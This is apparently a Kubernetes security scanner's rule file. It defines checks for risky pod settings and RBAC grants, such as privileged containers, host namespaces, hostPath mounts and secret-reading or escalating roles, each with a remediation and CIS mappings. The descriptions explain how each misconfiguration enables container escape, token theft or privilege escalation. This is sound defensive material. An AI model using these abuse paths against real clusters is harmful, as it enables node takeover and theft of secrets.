  deferred("kubernetes-pod", { "id": "k8s-dangerous-capabilities", "title": "Container adds dangerous capabilities (SYS_ADMIN, ALL, SYS_PTRACE, SYS_MODULE)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The container adds a Linux capability that is a known way out of the container: `SYS_ADMIN` (mount, namespaces, cgroup escapes), `ALL`, `SYS_MODULE` (load kernel modules), `SYS_PTRACE` (inject into processes), `SYS_RAWIO`, `DAC_READ_SEARCH` (read any host file through open handles), `BPF` or `SYS_BOOT`. Such a container is nearly as powerful as a privileged one.", "remediation": "Remove the capability from `securityContext.capabilities.add`, drop `ALL`, and add back only the narrow capability the process needs (often `NET_BIND_SERVICE`, or none).", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.9"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "capabilities", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"] }),
  deferred("kubernetes-pod", { "id": "k8s-default-service-account", "title": "Pod runs as the namespace's default service account with its token mounted", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod names no service account, so it runs as the namespace's `default` account and gets its API token. Every pod in the namespace shares that identity: a permission granted to `default` for one workload is granted to all of them, and its token is in every container.", "remediation": "Create a ServiceAccount per workload and set `serviceAccountName`; set `automountServiceAccountToken: false` on the `default` ServiceAccount of every namespace.", "precision": "medium", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.5"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["service-account", "k8s-rbac"], "references": ["https://kubernetes.io/docs/concepts/security/service-accounts/#default-service-accounts", "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/"] }),
  deferred("kubernetes-pod", { "id": "k8s-exposed-workload-can-read-secrets", "title": "Workload exposed outside the cluster runs as a service account that can read Secrets", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The workload is reachable from outside the cluster (a LoadBalancer or NodePort Service, or an Ingress) and its pods mount the token of a ServiceAccount that a RoleBinding or ClusterRoleBinding allows to get, list or watch Secrets. An attacker who gets code execution or a file read in the exposed process reads the token and, with it, every Secret in scope: database passwords, cloud keys, other service account tokens.", "remediation": "Run the exposed pods as a ServiceAccount without access to Secrets, or limit the rule to the named Secrets it needs with `resourceNames`. Set `automountServiceAccountToken: false` on pods that do not call the API. Prefer a RoleBinding in one namespace to a ClusterRoleBinding.", "precision": "medium", "cwe": ["CWE-522", "CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.2", "5.1.6"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "secrets", "network-exposure"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets"] }),
  deferred("kubernetes-pod", { "id": "k8s-hardcoded-secret-env", "title": "Hardcoded secret in a container environment variable", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "A container environment variable named like a password, token or key is set to a literal value in the manifest. The credential is in version control for everyone with read access, in every rendered copy of the manifest, and visible to anyone who can read the workload through the API.", "remediation": "Move the value to a Secret (ideally synced from an external secret store) and reference it with `valueFrom.secretKeyRef`, or mount it as a file; then rotate the exposed credential.", "precision": "high", "cwe": ["CWE-798"], "frameworks": { "CIS Kubernetes 1.9": ["5.4.1"], "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] }, "tags": ["secrets", "hardcoded-secret"], "references": ["https://kubernetes.io/docs/concepts/security/secrets-good-practices/", "https://kubernetes.io/docs/tasks/inject-data-application/distribute-credentials-secure/"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-ipc", "title": "Pod shares the host IPC namespace (hostIPC)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`hostIPC: true` joins the pod to the node's IPC namespace: it can read and write the shared memory segments and message queues of every process on the node, including other tenants' containers.", "remediation": "Remove `hostIPC: true`; containers that need shared memory with each other can share an `emptyDir` with `medium: Memory` inside the pod.", "precision": "very-high", "cwe": ["CWE-250", "CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.4"], "NSA-CISA Kubernetes Hardening": ["Pod security: do not share host namespaces"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-namespaces", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-path-sensitive", "title": "Pod mounts a sensitive host path (/, /etc, /proc, kubelet or system folders)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod mounts a node folder that holds credentials or the node's own software: the root filesystem, `/etc` (kubelet and kubeadm credentials), `/proc`, `/sys`, `/dev`, system binaries or the kubelet, etcd and container runtime state. Read access leaks cluster credentials; write access takes over the node.", "remediation": "Do not mount node system folders into pods. Mount only the narrowest, non-sensitive path a node agent needs, read-only, and keep such agents in a dedicated, locked-down namespace.", "precision": "very-high", "cwe": ["CWE-668", "CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.12"], "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-path", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-path-volume", "title": "Pod mounts a host path (hostPath volume)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "A hostPath volume gives the pod a directory of the node's filesystem. Files written there outlive the pod and are seen by the node and other pods, symbolic links in it can lead outside it, and it ties the pod to one node. The Pod Security Standards baseline profile forbids hostPath volumes.", "remediation": "Use an `emptyDir`, a PersistentVolumeClaim or a CSI volume instead; if node files are truly needed, mount the narrowest path read-only and run the pod under a reviewed exception.", "precision": "high", "cwe": ["CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.12"], "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-path", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-pid", "title": "Pod shares the host PID namespace (hostPID)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`hostPID: true` lets the pod see every process on the node. A root process in it can read other containers' environment and memory through `/proc`, signal them, or enter the node's namespaces with `nsenter` when combined with privilege.", "remediation": "Remove `hostPID: true`. Node-level process monitoring belongs in a dedicated, reviewed agent, not in application pods.", "precision": "very-high", "cwe": ["CWE-250", "CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.3"], "NSA-CISA Kubernetes Hardening": ["Pod security: do not share host namespaces"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-namespaces", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-ingress-nginx-snippet", "title": "Ingress injects raw nginx configuration (snippet annotation)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Ingress"], "description": "Snippet annotations paste their text into the ingress-nginx controller's configuration. Anyone allowed to edit Ingresses in any namespace can then run nginx directives in the controller, read its service account token and every Secret it can see (CVE-2021-25742), or break routing for other tenants. Current controller releases refuse snippets unless an administrator enables them.", "remediation": "Replace the snippet with the dedicated annotations or ConfigMap options of the controller; keep `allow-snippet-annotations` disabled on the controller.", "precision": "high", "cwe": ["CWE-94"], "tags": ["ingress", "ingress-nginx", "insecure-feature"], "references": ["https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations/#configuration-snippet", "https://github.com/kubernetes/ingress-nginx/issues/7837"] }),
  deferred("kubernetes-pod", { "id": "k8s-kube-system-workload", "title": "Workload deployed into the kube-system namespace", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`kube-system` holds the cluster's own components and their highly privileged service accounts and secrets, and admission policies usually exempt it. An application placed there shares that trust: anyone who can manage it can reach the control-plane credentials next to it.", "remediation": "Deploy applications and add-ons into their own namespace with their own service account; keep `kube-system` for components installed by the cluster itself.", "precision": "medium", "cwe": ["CWE-653"], "frameworks": { "CIS Kubernetes 1.9": ["5.7.1"] }, "tags": ["namespaces", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/multi-tenancy/", "https://kubernetes.io/docs/concepts/overview/working-with-objects/namespaces/"] }),
  deferred("kubernetes-namespace", { "id": "k8s-namespace-pod-security-not-enforced", "title": "Namespace does not enforce Pod Security Standards (pod-security.kubernetes.io/enforce)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Namespace"], "description": "The namespace has no `pod-security.kubernetes.io/enforce` label at `baseline` or `restricted`, so Pod Security Admission lets anyone who can create pods there run them privileged, on the host's namespaces or with hostPath volumes, unless another admission policy covers it.", "remediation": "Label the namespace `pod-security.kubernetes.io/enforce: restricted` (or `baseline` where restricted is not yet possible), and use the `warn` and `audit` labels to prepare the change.", "precision": "medium", "cwe": ["CWE-1188"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.1"], "NSA-CISA Kubernetes Hardening": ["Pod security: enforce pod security policies"], "Pod Security Standards": ["baseline", "restricted"] }, "tags": ["pod-security", "admission", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-admission/", "https://kubernetes.io/docs/tasks/configure-pod-container/enforce-standards-namespace-labels/"] }),
  deferred("kubernetes-pod", { "id": "k8s-privilege-escalation-allowed", "title": "Container explicitly allows privilege escalation (allowPrivilegeEscalation: true)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`allowPrivilegeEscalation: true` leaves the kernel's `no_new_privs` flag off, so a process in the container can gain more privileges than its parent through setuid binaries or file capabilities: a non-root foothold becomes root in the container. The Pod Security Standards restricted profile requires `false`.", "remediation": "Set `securityContext.allowPrivilegeEscalation: false` on the container; run it as a non-root user and remove setuid binaries from the image.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.6"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "privilege-escalation", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-privilege-escalation-not-disabled", "title": "Container does not disable privilege escalation (allowPrivilegeEscalation not set to false)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Containers allow privilege escalation unless `allowPrivilegeEscalation: false` is set: setuid binaries in the image (`su`, `sudo`, `ping` on older images) can turn a non-root foothold into root inside the container. The Pod Security Standards restricted profile requires the setting on every container.", "remediation": "Add `securityContext.allowPrivilegeEscalation: false` to every container.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.6"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "privilege-escalation", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-privileged-container", "title": "Container runs privileged", "severity": "critical", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`securityContext.privileged: true` gives the container every capability and access to the host's devices: a process in it can take over the node and every pod on it. The Pod Security Standards baseline profile forbids it.", "remediation": "Remove `privileged: true`; grant the one capability the workload needs with `capabilities.add` instead, or move node-level work to a dedicated, audited DaemonSet.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.2"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-proc-mount-unmasked", "title": "Container mounts /proc unmasked (procMount: Unmasked)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`procMount: Unmasked` removes the masking and read-only paths the runtime applies to `/proc` (such as `/proc/sys`, `/proc/sysrq-trigger` and `/proc/kcore`), exposing kernel interfaces that can leak host information or change node settings. The Pod Security Standards baseline profile requires the `Default` proc mount.", "remediation": "Remove `procMount` or set it to `Default`. Nested container runtimes should run in user-namespaced pods (`hostUsers: false`) built for it.", "precision": "very-high", "cwe": ["CWE-668"], "frameworks": { "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-all-authenticated-binding", "title": "RBAC binding grants a role to every authenticated user or every service account", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["RoleBinding", "ClusterRoleBinding"], "description": "The binding gives a role to `system:authenticated` or `system:serviceaccounts`: every user and every pod of the cluster with a token. On managed clusters `system:authenticated` can include anyone with an account at the cloud provider, not only your organisation.", "remediation": "Bind the role to the specific users, groups or service accounts that need it.", "precision": "high", "cwe": ["CWE-284"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac"], "references": ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#referring-to-subjects", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-anonymous-binding", "title": "RBAC binding grants a role to anonymous users (system:anonymous, system:unauthenticated)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["RoleBinding", "ClusterRoleBinding"], "description": "The binding gives a role to `system:anonymous` or `system:unauthenticated`: anyone who can reach the API server, without any credential, gets its permissions. Exposed API servers are scanned for this constantly.", "remediation": "Remove the anonymous subjects; bind the role to the authenticated users, groups or service accounts that need it.", "precision": "very-high", "cwe": ["CWE-306", "CWE-284"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Authentication: disable anonymous access"] }, "tags": ["rbac", "k8s-rbac", "anonymous"], "references": ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#default-roles-and-role-bindings", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-rbac-cluster-admin-binding", "title": "RBAC binding grants cluster-admin to users or groups", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRoleBinding", "RoleBinding"], "description": "The binding gives the built-in `cluster-admin` role to users or groups: through a ClusterRoleBinding, full control of the cluster; through a RoleBinding, full control of the namespace, Secrets and RBAC included. Standing administrator access should be rare, named and reviewed; day-to-day work needs narrower roles.", "remediation": "Bind the built-in `admin`, `edit` or `view` roles, or a custom role, instead; keep cluster-admin for a small break-glass group with just-in-time access.", "precision": "high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.1"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "cluster-admin"], "references": ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-create-workloads", "title": "RBAC role can create pods or workloads", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "The role can create pods, or controllers that create pods (Deployments, DaemonSets, Jobs...). Whoever can create a pod in a namespace can run it as any service account of that namespace and mount any of its Secrets; without an admission policy it can also run privileged and mount the node.", "remediation": "Keep workload creation to deployment pipelines and controllers; enforce the Pod Security Standards on namespaces where such roles are bound.", "precision": "medium", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.4"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "workload-creation"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-rbac-csr-approval", "title": "RBAC role can approve certificate signing requests", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRole"], "description": "`update` on `certificatesigningrequests/approval` lets a subject approve its own certificate requests: with a signer that issues client certificates it can get one for any user or group, `system:masters` included on some clusters, which RBAC cannot revoke.", "remediation": "Leave approval to the cluster's built-in approver; grant it to a dedicated controller only, limited to its signer.", "precision": "high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.11"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "certificatesigningrequest"], "references": ["https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/#authorization", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#csrs-and-certificate-issuing"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-escalate-bind-impersonate", "title": "RBAC role grants escalate, bind or impersonate verbs", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "`escalate` lets a subject write roles with permissions it does not have, `bind` lets it bind any role (cluster-admin included) to itself, and `impersonate` lets it act as other users, groups or service accounts. Each one bypasses RBAC's built-in protection against privilege escalation.", "remediation": "Remove these verbs; when a controller must bind roles, limit `bind` with `resourceNames` to the roles it manages.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.8"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "privilege-escalation"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#escalate-verb", "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-rbac-nodes-proxy", "title": "RBAC role grants access to the kubelet API (nodes/proxy)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRole"], "description": "`nodes/proxy` reaches the kubelet API of every node through the API server: its subjects can run commands in any pod on any node, and those requests bypass the audit log entries and admission control that `pods/exec` goes through.", "remediation": "Remove `nodes/proxy`; monitoring agents should read `nodes/metrics` and `nodes/stats` instead.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.10"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "kubelet"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#access-to-proxy-subresource-of-nodes"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-rbac-persistent-volume-create", "title": "RBAC role can create PersistentVolumes (hostPath volumes on any node)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRole"], "description": "PersistentVolumes are cluster-wide and may be of type `hostPath`: a subject that can create them can hand any claim a directory of the node's filesystem, which admission policies checking pod volumes do not see. Volumes should come from StorageClasses and CSI provisioners instead.", "remediation": "Remove `create` on `persistentvolumes`; let users request storage through PersistentVolumeClaims and dynamic provisioning.", "precision": "high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.9"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "host-path"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#persistent-volume-creation"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-pod-exec", "title": "RBAC role allows exec or attach into pods (pods/exec, pods/attach)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "The role grants `create` (or `get`, which older API servers accepted for websocket exec) on `pods/exec` or `pods/attach`: its subjects can run commands in any pod of its scope, with that pod's service account token, mounted Secrets and network position.", "remediation": "Remove exec and attach from roles used by applications and automation; grant them to people through a separate, audited role, limited with `resourceNames` where possible.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "exec"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-secrets-read", "title": "RBAC role can read secrets (get/list/watch on secrets)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "The role can get, list or watch every Secret in its scope: database passwords, TLS keys, registry credentials and, where they still exist, service account tokens of more privileged accounts. In a ClusterRole that is every Secret of the cluster. `list` and `watch` return the values too, not only the names.", "remediation": "Restrict the rule with `resourceNames` to the Secrets the subject needs, or mount those Secrets into the workload instead of reading them through the API.", "precision": "high", "cwe": ["CWE-269", "CWE-522"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.2"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "secrets"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-service-account-token-create", "title": "RBAC role can mint service account tokens (serviceaccounts/token)", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "`create` on `serviceaccounts/token` issues API tokens for service accounts in the role's scope: its subjects can act as the most privileged account there, without running a pod or reading a Secret.", "remediation": "Remove the permission, or limit it with `resourceNames` to the accounts the subject must issue tokens for.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.13"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "service-account"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-rbac-webhook-configuration", "title": "RBAC role can change admission webhook configurations", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRole"], "description": "Write access to `mutatingwebhookconfigurations` or `validatingwebhookconfigurations` lets a subject send every object created in the cluster (Secrets included) to a server it controls, rewrite pods as they are admitted, or remove the webhooks that enforce security policy.", "remediation": "Grant webhook configuration writes only to the controller that owns them, limited with `resourceNames` to its own configurations.", "precision": "high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.12"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "admission-webhook"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#control-admission-webhooks"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-wildcard-resources", "title": "RBAC role grants verbs on wildcard resources (*), secrets included", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "A rule of the role grants its verbs on `*` resources: every resource type of its API groups, including Secrets, `pods/exec` and resource types added later by new versions or CustomResourceDefinitions. Even read-only verbs on `*` in the core group read every Secret. Wildcard verbs on every resource are reported by k8s-rbac-wildcard.", "remediation": "List the resources the subject needs; leave out `secrets` and subresources such as `pods/exec` unless they are required.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "wildcard"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-wildcard-verbs", "title": "RBAC role grants wildcard verbs (*) on resources", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "A rule of the role grants `*` verbs on named resources: every action on them, including `delete`, `deletecollection`, `escalate`, `bind` and `impersonate` where they apply, and any verb added by future Kubernetes versions or extensions. Wildcard verbs on every resource are reported by k8s-rbac-wildcard.", "remediation": "List the verbs the subject needs (`get`, `list`, `watch`, `create`, `update`, `patch`, `delete`).", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "wildcard"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-role", { "id": "k8s-rbac-wildcard", "title": "RBAC role grants wildcard verbs on wildcard resources", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Role", "ClusterRole"], "description": "A rule grants `*` verbs on `*` resources: every current and future permission in its scope, including reading secrets, creating pods that mount the host and granting itself more roles. In a ClusterRole that is the equivalent of cluster-admin.", "remediation": "List the API groups, resources and verbs the subject needs; bind the built-in `view` or `edit` roles where they fit.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"] }),
  deferred("kubernetes-pod", { "id": "k8s-read-only-root-filesystem", "title": "Container root filesystem is writable (readOnlyRootFilesystem not true)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Without `readOnlyRootFilesystem: true`, an attacker who gets code execution in the container can drop tools, modify binaries and libraries of the image, or plant persistence that survives until the container is replaced.", "remediation": "Set `securityContext.readOnlyRootFilesystem: true` and give the process `emptyDir` volumes for the paths it writes (`/tmp`, caches).", "precision": "high", "cwe": ["CWE-732"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Pod security: immutable container file systems"] }, "tags": ["pod-security", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-restricted-volume-types", "title": "Pod uses a volume type outside the restricted profile (NFS, iSCSI, RBD, FlexVolume...)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod mounts a volume source that the Pod Security Standards restricted profile does not allow: an in-tree network or cloud volume (NFS, iSCSI, RBD, CephFS, cloud disks) or a FlexVolume. Such volumes bypass PersistentVolumeClaim access control, embed storage endpoints and credentials in the pod spec, and FlexVolume drivers run as root on the node.", "remediation": "Mount storage through a PersistentVolumeClaim bound to an administrator-managed PersistentVolume or a CSI driver, and configuration through ConfigMaps, Secrets or projected volumes.", "precision": "high", "cwe": ["CWE-668"], "frameworks": { "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "volumes", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/storage/volumes/"] }),
